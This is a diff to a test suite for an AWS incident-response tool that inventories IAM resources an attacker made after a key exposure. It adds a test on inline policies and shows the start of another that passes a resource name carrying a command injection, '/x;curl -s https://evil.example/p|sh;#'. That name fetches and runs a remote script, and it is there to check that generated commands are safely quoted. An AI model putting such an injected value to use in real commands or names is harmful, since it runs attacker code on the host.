@@ -414,6 +414,23 @@ describe('takeInventory', () => {
     expect(named?.note).toMatch(/may revoke the sessions of an earlier incident's key/);
   });
 
+  it('counts an inline policy put on a principal that has none now as already removed', async () => {
+    iamMock.on(ListUserPoliciesCommand, { UserName: 'backdoor' }).resolves({ PolicyNames: [] });
+    // On the key's own user, exposed-keys' own policy is not the attacker's: with it alone, none is left.
+    iamMock
+      .on(ListUserPoliciesCommand, { UserName: 'alice' })
+      .resolves({ PolicyNames: ['exposed-keys-revoke-sessions'] });
+    const putOn = (user: string) => risky('PutUserPolicy', [{ type: 'AWS::IAM::User', name: user }]);
+
+    const inventory = await takeInventory(deps, [summary([putOn('backdoor'), putOn('alice')])], 'alice');
+
+    expect(inventory.items.map((item) => [item.kind, item.owner, item.state])).toEqual([
+      ['inline-policy', 'user/backdoor', 'gone'],
+      ['inline-policy', 'user/alice', 'gone'],
+    ]);
+    expect(inventoryLines(inventory)[0]).toMatch(/^0 thing\(s\) the attacker made still exist, 2 already removed/);
+  });
+
   it('quotes every name in a command to copy, so that a name an attacker wrote stays one argument', async () => {
     const name = '/x;curl -s https://evil.example/p|sh;#';
     const inventory = await takeInventory(
